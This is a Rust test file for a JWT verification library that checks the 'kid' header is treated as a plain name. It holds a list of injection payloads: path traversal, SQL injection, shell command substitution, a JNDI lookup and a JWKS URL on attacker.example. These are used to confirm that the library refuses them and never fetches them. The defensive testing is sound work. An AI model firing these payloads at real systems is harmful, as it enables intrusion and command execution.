//! `kid`: a name to compare, and never a path, a query, a command or an address.

use std::sync::Arc;

use portcullis::Algorithm::ES256;
use portcullis::Issuer;
use portcullis::keys::remote::Remote;
use serde_json::{Value, json};

use crate::stage::{JWKS, Library, Stage, header_with};
use crate::support::fixture::{AUDIENCE, ISSUER, claims, issuer};
use crate::support::mint::MintKey;

const INJECTIONS: [&str; 22] = [
    "",
    " ",
    "a ",
    "A",
    "\u{430}",
    "a\0",
    "a\0b",
    "a\r\nX-Injected: 1",
    "../../../../dev/null",
    "/dev/null",
    "..\\..\\windows\\win.ini",
    "file:///proc/sys/kernel/randomize_va_space",
    "https://attacker.example/jwks.json",
    "' OR '1'='1",
    "x' UNION SELECT 'secret';--",
    "a; sleep 10",
    "$(touch /tmp/pwned)",
    "`id`",
    "${jndi:ldap://attacker.example/a}",
    "__proto__",
    ".*",
    "*",
];

fn named(key: &MintKey, kid: &Value) -> String {
    key.token_of_texts(&header_with(key, &json!({ "kid": kid })), &claims().to_string())
}

#[test]
fn injections_by_kid() {
    let key = MintKey::new(ES256, "a");
    let stage = Stage::trusting(&key);
    stage.accepts("the id as published", &key.token(&claims()));
    for kid in INJECTIONS {
        stage.refuses(kid, &named(&key, &json!(kid)), "key_unknown");
        // Odd as it is, it is a name like any other once the issuer publishes it.
        let published = Stage::new(&[ES256], || vec![issuer([key.jwk().with_key_id(kid)])]);
        published.accepts(kid, &named(&key, &json!(kid)));
        published.refuses("the plain one", &named(&key, &json!("a")), "key_unknown");
    }
}

#[test]
fn a_kid_that_is_too_long_or_no_string() {
    let key = MintKey::new(ES256, None);
    let stage = Stage::trusting(&key);
    stage.accepts("256 bytes", &named(&key, &json!("k".repeat(256))));
    for kid in [
        json!("k".repeat(257)),
        json!("\u{e4}".repeat(129)),
        Value::Null,
        json!(0),
        json!(true),
        json!(["a"]),
        json!({"a": "a"}),
    ] {
        stage.refuses(&kid.to_string(), &named(&key, &kid), "header_malformed");
    }
}

/// An unknown id may cause a fetch. It never becomes part of what is asked.
#[test]
fn a_kid_is_never_sent_to_the_issuer() {
    let key = MintKey::new(ES256, "a");
    let set = json!({ "keys": [key.public_json()] }).to_string();
    let library = Library::of([(JWKS, set.as_str())]);
    let stage = Stage::new(&[ES256], || {
        let remote = Remote::jwks_url_with(JWKS, Arc::clone(&library)).unwrap();
        vec![Issuer::new(ISSUER, remote).audience(AUDIENCE)]
    });
    stage.accepts("the id as published", &key.token(&claims()));
    for kid in INJECTIONS {
        stage.refuses(kid, &named(&key, &json!(kid)), "key_unknown");
    }
    assert!(library.asked().iter().all(|asked| asked == JWKS), "{:?}", library.asked());
}

#[test]
fn one_kid_for_the_keys_of_two_issuers() {
    let (ours, theirs) = (MintKey::new(ES256, "same"), MintKey::new(ES256, "same"));
    let stage = Stage::new(&[ES256], || {
        let second = Issuer::new("https://second.example", theirs.jwk()).audience(AUDIENCE);
        vec![issuer([ours.jwk()]), second]
    });
    stage.accepts("ours", &ours.token(&claims()));
    stage.refuses("theirs in our name", &theirs.token(&claims()), "signature_invalid");
}
